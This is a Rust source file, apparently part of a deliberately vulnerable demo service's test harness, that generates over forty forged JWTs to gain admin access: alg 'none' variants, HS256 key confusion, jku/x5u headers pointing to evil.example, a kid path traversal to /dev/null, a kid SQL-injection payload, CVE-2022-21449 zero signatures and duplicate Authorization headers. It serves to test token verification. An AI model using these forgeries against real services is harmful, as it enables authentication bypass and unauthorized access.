//! Tokens that are not what they seem, from the clumsiest to the cleverest. Each would make its bearer the admin, who alone may
//! read the log: Natter believes whatever a token says.
//!
//! It never sends anything: these are exploits like those of Natter itself.

use natter::{Exploit, Proof, StoppedBy};
use portcullis_identity::jose::encode_base64url;
use portcullis_identity::jose::key::Kid;
use portcullis_identity::jose::object::Object;
use portcullis_secrets::{LoadError, MacKey, SecretBytes, Signer, SigningAlgorithm, SigningFailed};
use serde_json::{Value, json};

use super::people::{DEMO, Issuer, KEY_NAME, MALLORY};

const WEAKNESS: &str = "unverified-token";
/// What only the admin may do.
const READ_LOG: &str = "GET /logs?limit=1";
/// More than a token may have, and less than a request's head.
const PADDING_BYTES: usize = 20 * 1024;

/// What an attack does with a token, and the token.
type Forgery = (&'static str, String);

/// Why there are no forgeries.
#[derive(Debug, thiserror::Error)]
pub(super) enum Error {
    #[error("a token cannot be signed")]
    Signing,
    #[error("a token cannot be authenticated: {0}")]
    Mac(LoadError),
}

impl From<SigningFailed> for Error {
    fn from(_: SigningFailed) -> Self {
        Self::Signing
    }
}

/// Every attack with a forged or misused token.
///
/// # Errors
/// The library fails.
pub(super) fn exploits(issuer: &Issuer) -> Result<Vec<Exploit>, Error> {
    let forger = Forger::new(issuer)?;
    let families = [
        ("nothing signs the token", forger.unsigned()),
        ("another key signs the token", forger.of_other_keys()?),
        ("the signature is not the token's", forger.of_wrong_signatures()?),
        ("the token is for something else", forger.out_of_place()?),
        ("the token's header asks for more", forger.with_odd_headers()),
    ];
    let named = |family| move |forgery: Forgery| in_family(family, with_token(forgery));
    let with_tokens = families
        .into_iter()
        .flat_map(|(family, forgeries)| forgeries.into_iter().map(named(family)));
    let others = forger.in_odd_forms()?;
    let others = others
        .into_iter()
        .map(|one| in_family("the credential has another form", one));
    Ok(with_tokens.chain(others).collect())
}

fn in_family(family: &'static str, exploit: Exploit) -> Exploit {
    Exploit { family, ..exploit }
}

fn with_token((gain, token): Forgery) -> Exploit {
    read_log(WEAKNESS, gain).header("authorization", format!("Bearer {token}"))
}

fn read_log(weakness: &'static str, gain: &'static str) -> Exploit {
    let refused = StoppedBy::Refused("authentication.required");
    Exploit::new(weakness, gain, READ_LOG, Proof::Status(200), refused)
}

/// Somebody with a key of their own, an account, and the issuer's tokens for it.
struct Forger<'i> {
    issuer: &'i Issuer,
    own: Signer,
    claims: Object,
}

impl<'i> Forger<'i> {
    fn new(issuer: &'i Issuer) -> Result<Self, Error> {
        Ok(Self {
            issuer,
            own: Signer::generate(SigningAlgorithm::Es256, Kid::new(KEY_NAME))?,
            claims: issuer.claims(&DEMO),
        })
    }

    /// Header and claims of the admin.
    fn input(&self, header: &str) -> String {
        input(header, &self.claims)
    }

    /// A header as the issuer writes it, with more in it.
    fn header(more: &str) -> String {
        format!(r#"{{"alg":"ES256","typ":"at+jwt","kid":"{KEY_NAME}"{more}}}"#)
    }

    fn signed_by_own(&self, header: &str) -> Result<String, Error> {
        signed(&self.own, &self.input(header))
    }

    fn unsigned(&self) -> Vec<Forgery> {
        let none = |gain, alg: &str| {
            (
                gain,
                format!("{}.", self.input(&format!(r#"{{"alg":"{alg}","typ":"at+jwt"}}"#))),
            )
        };
        vec![
            none("`alg` is `none`", "none"),
            none("`alg` is `None`, past a filter", "None"),
            none("`alg` is `NONE`", "NONE"),
            none("`alg` is `nOnE`", "nOnE"),
            (
                "the signature is taken away",
                format!("{}.", self.input(&Self::header(""))),
            ),
        ]
    }

    fn of_other_keys(&self) -> Result<Vec<Forgery>, Error> {
        let public = Value::Object(self.issuer.signer().public_jwk());
        let own = Value::Object(self.own.public_jwk());
        let x = public.get("x").and_then(Value::as_str).unwrap_or_default();
        let hs256 = |kid: &str| format!(r#"{{"alg":"HS256","typ":"at+jwt","kid":"{kid}"}}"#);
        let place = |name: &str| Self::header(&format!(r#","{name}":"https://evil.example/{name}""#));
        Ok(vec![
            (
                "a key of one's own, under the issuer's name",
                self.signed_by_own(&Self::header(""))?,
            ),
            (
                "a key of one's own, in the token (`jwk`)",
                self.signed_by_own(&Self::header(&format!(r#","jwk":{own}"#)))?,
            ),
            (
                "a key of one's own, fetched (`jku`)",
                self.signed_by_own(&place("jku"))?,
            ),
            (
                "a certificate of one's own, fetched (`x5u`)",
                self.signed_by_own(&place("x5u"))?,
            ),
            (
                "a certificate in the token (`x5c`)",
                self.signed_by_own(&Self::header(r#","x5c":["MIIB"]"#))?,
            ),
            (
                "HS256 with the public key as the secret",
                self.mac(&hs256(KEY_NAME), public.to_string().as_bytes())?,
            ),
            (
                "HS256 with a coordinate as the secret",
                self.mac(&hs256(KEY_NAME), x.as_bytes())?,
            ),
            // An HMAC key of zeros is the same as an empty one, which is what is read from there.
            (
                "`kid` names a file: /dev/null",
                self.mac(&hs256("../../../../dev/null"), &[0; 32])?,
            ),
            (
                "`kid` injects SQL that answers a key",
                self.mac(&hs256("x' UNION SELECT 'AAAA' --"), &[b'A'; 32])?,
            ),
        ])
    }

    fn mac(&self, header: &str, secret: &[u8]) -> Result<String, Error> {
        let key = MacKey::new(&SecretBytes::new(secret.to_vec()), None).map_err(Error::Mac)?;
        let input = self.input(header);
        let tag = encode_base64url(&key.sign(input.as_bytes()));
        Ok(format!("{input}.{tag}"))
    }

    fn of_wrong_signatures(&self) -> Result<Vec<Forgery>, Error> {
        let input = self.input(&Self::header(""));
        let forged = |signature: &[u8]| format!("{input}.{}", encode_base64url(signature));
        let genuine = self.issuer.token(&DEMO)?;
        let of_mallory = self.issuer.token(&MALLORY)?;
        let (_, signature) = of_mallory.rsplit_once('.').unwrap_or_default();
        let other_octets = self.issuer.signer().sign(b"another text")?;
        Ok(vec![
            (
                "one's own token, another name written into it",
                format!("{input}.{signature}"),
            ),
            ("ECDSA with R and S zero (CVE-2022-21449)", forged(&[0; 64])),
            ("the issuer's signature of another text", forged(&other_octets)),
            (
                "the signature as DER, as X.509 has it",
                forged(&der(&self.issuer.signer().sign(input.as_bytes())?)),
            ),
            ("half of the signature", shortened(&genuine, 43)),
            ("a second spelling: with padding", format!("{genuine}==")),
            ("a second spelling: in unused bits", with_unused_bit(&genuine)),
        ])
    }

    /// The issuer's own tokens, in the wrong place, at the wrong time, or for something else.
    fn out_of_place(&self) -> Result<Vec<Forgery>, Error> {
        let now = self.issuer.now();
        let changed = |name: &str, value: Value| {
            let mut claims = self.claims.clone();
            claims.insert(name.to_owned(), value);
            self.issued("at+jwt", &claims)
        };
        let mut unending = self.claims.clone();
        unending.remove("exp");
        Ok(vec![
            ("an hour too old", changed("exp", json!(now.saturating_sub(3600)))?),
            (
                "not good before tomorrow",
                changed("nbf", json!(now.saturating_add(86400)))?,
            ),
            ("made tomorrow", changed("iat", json!(now.saturating_add(86400)))?),
            ("without an end", self.issued("at+jwt", &unending)?),
            ("its end is a text", changed("exp", json!("2099-01-01"))?),
            ("another issuer's", changed("iss", json!("https://id.other.example"))?),
            ("for another service", changed("aud", json!("https://billing.example"))?),
            (
                "for a service of a longer name",
                changed("aud", json!("https://api.natter.example.evil.example"))?,
            ),
            (
                "an ID token in place of an access token",
                self.issued("JWT", &self.claims)?,
            ),
            (
                "a logout token in place of an access token",
                self.issued("logout+jwt", &self.claims)?,
            ),
        ])
    }

    fn issued(&self, typ: &str, claims: &Object) -> Result<String, Error> {
        Ok(self.issuer.signer().sign_compact(typ, claims)?)
    }

    fn with_odd_headers(&self) -> Vec<Forgery> {
        let forged = |gain, header: String| (gain, format!("{}.{}", self.input(&header), encode_base64url(&[7; 64])));
        vec![
            forged(
                "`alg` twice: two readers, two algorithms",
                Self::header(r#","alg":"none""#),
            ),
            forged(
                "an extension that has to be understood",
                Self::header(r#","crit":["x"],"x":true"#),
            ),
            forged(
                "`b64` is false: other octets are signed",
                Self::header(r#","crit":["b64"],"b64":false"#),
            ),
            forged("compressed (`zip`)", Self::header(r#","zip":"DEF""#)),
            forged("signed, and said to be encrypted", Self::header(r#","enc":"A256GCM""#)),
        ]
    }

    fn in_odd_forms(&self) -> Result<Vec<Exploit>, Error> {
        let none = format!("{}.", self.input(r#"{"alg":"none"}"#));
        let claims = encode_base64url(Value::Object(self.claims.clone()).to_string().as_bytes());
        let encrypted = input(r#"{"alg":"dir","enc":"A256GCM","cty":"JWT"}"#, &self.claims);
        let long = Self::header(&format!(r#","x":"{}""#, "x".repeat(PADDING_BYTES)));
        let own_token = self.issuer.token(&MALLORY)?;
        let bearer = |token: &str| format!("Bearer {token}");
        let reading_only = Object::from_iter(self.claims.clone().into_iter().map(
            |(name, value)| match name.as_str() {
                "scope" => (name, json!("read")),
                _ => (name, value),
            },
        ));
        let for_reading = self.issued("at+jwt", &reading_only)?;
        let everybody = Exploit::new(
            "any-caller",
            "no token at all",
            "GET /users",
            Proof::Body("mallory"),
            StoppedBy::Refused("authentication.required"),
        );
        Ok(vec![
            everybody,
            with_token(("encrypted, in five parts", format!("{encrypted}.AAAA.AAAA.AAAA"))),
            with_token((
                "the JSON serialization",
                format!(r#"{{"payload":"{claims}","protected":"e30","signature":"AAAA"}}"#),
            )),
            with_token(("a very long token", signed(&self.own, &self.input(&long))?)),
            read_log(WEAKNESS, "two `Authorization`: a forged one first")
                .header("authorization", bearer(&none))
                .header("authorization", bearer(&own_token)),
            read_log(WEAKNESS, "two tokens in one field")
                .header("authorization", format!("Bearer {none}, Bearer {own_token}")),
            // `demo` with a wrong password.
            read_log("unverified-password", "Basic, where a token is due")
                .header("authorization", "Basic ZGVtbzpndWVzc2Vk"),
            Exploit {
                stopped_by: StoppedBy::Refused("authorization.scope"),
                ..with_token(("the admin's token that is for reading only", for_reading))
            },
        ])
    }
}

/// Header and claims with the dot between them.
fn input(header: &str, claims: &Object) -> String {
    let claims = Value::Object(claims.clone()).to_string();
    format!(
        "{}.{}",
        encode_base64url(header.as_bytes()),
        encode_base64url(claims.as_bytes())
    )
}

fn signed(signer: &Signer, input: &str) -> Result<String, Error> {
    Ok(format!("{input}.{}", encode_base64url(&signer.sign(input.as_bytes())?)))
}

/// R and S of P-256 as a sequence of two integers (X.690 §8.3, §8.9).
fn der(signature: &[u8]) -> Vec<u8> {
    let integer = |octets: &[u8]| {
        let zeros = octets.iter().take_while(|octet| **octet == 0).count();
        let octets = octets.get(zeros..).unwrap_or_default();
        let sign: &[u8] = if octets.first().is_some_and(|first| *first > 0x7f) {
            &[0]
        } else {
            &[]
        };
        tagged(2, &[sign, octets].concat())
    };
    let (r, s) = signature.split_at(signature.len() / 2);
    tagged(0x30, &[integer(r), integer(s)].concat())
}

/// For contents of less than 128 octets, which those of P-256 are.
fn tagged(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = u8::try_from(content.len()).unwrap_or_default();
    [&[tag, length], content].concat()
}

/// Without so many of the last characters.
fn shortened(token: &str, characters: usize) -> String {
    let kept = token.len().saturating_sub(characters);
    token.chars().take(kept).collect()
}

/// The same octets with another last character: of that of 64 octets, four bits stand for nothing.
fn with_unused_bit(token: &str) -> String {
    let mut letters: Vec<char> = token.chars().collect();
    if let Some(last) = letters.last_mut() {
        *last = match *last {
            'A' => 'B',
            'Q' => 'R',
            'g' => 'h',
            _ => 'x',
        };
    }
    letters.into_iter().collect()
}

#[cfg(test)]
mod tests {
    use portcullis_identity::jose::decode_base64url;

    use super::*;

    #[test]
    fn no_two_are_the_same() {
        let exploits = exploits(&Issuer::new().unwrap()).unwrap();
        let mut gains: Vec<&str> = exploits.iter().map(|exploit| exploit.gain).collect();
        gains.sort_unstable();
        gains.dedup();
        assert_eq!(gains.len(), exploits.len());
        assert!(exploits.len() >= 40, "{}", exploits.len());
    }

    #[test]
    fn a_signature_as_der() {
        let signature = [[0x80; 32], [1; 32]].concat();
        let written = der(&signature);
        assert_eq!(written.get(..5), Some(&[0x30, 69, 2, 33, 0][..]));
        assert_eq!(written.len(), 71);
    }

    #[test]
    fn unused_bits_stand_for_nothing() {
        let token = Issuer::new().unwrap().token(&DEMO).unwrap();
        let other = with_unused_bit(&token);
        assert_ne!(token, other);
        assert!(decode_base64url(token.rsplit('.').next().unwrap()).is_some());
        assert!(decode_base64url(other.rsplit('.').next().unwrap()).is_none());
    }
}
